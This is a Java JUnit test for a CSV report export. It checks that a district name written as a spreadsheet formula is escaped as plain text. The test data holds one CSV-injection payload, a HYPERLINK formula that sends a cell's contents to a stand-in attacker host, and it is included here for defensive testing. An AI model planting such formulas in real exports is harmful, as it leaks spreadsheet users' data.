package be.pillars.targetgroups.internal.representation;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

import org.junit.jupiter.api.Test;

/** A district named like a formula, as a municipality's own population file may name it, is text in the report. */
class RepresentationCsvTest {

    @Test
    void aDistrictNamedLikeAFormulaIsWrittenAsText() {
        List<PopulationCell> cells = new ArrayList<>(RepresentationTest.population());
        cells.add(new PopulationCell(30, "F", "=HYPERLINK(\"http://evil.example/?\"&A1)", 100));
        String csv = RepresentationCsv.write(Representation.compute(RepresentationTest.HASSELT, cells,
                RepresentationTest.volunteers(), List.of(), RepresentationTest.SETTINGS),
                Locale.ENGLISH);
        assertTrue(csv.contains("\r\ndistrict;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\";"
                + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\";"), csv);
        assertFalse(csv.contains(";=") || csv.contains(";\"="), csv);
    }
}
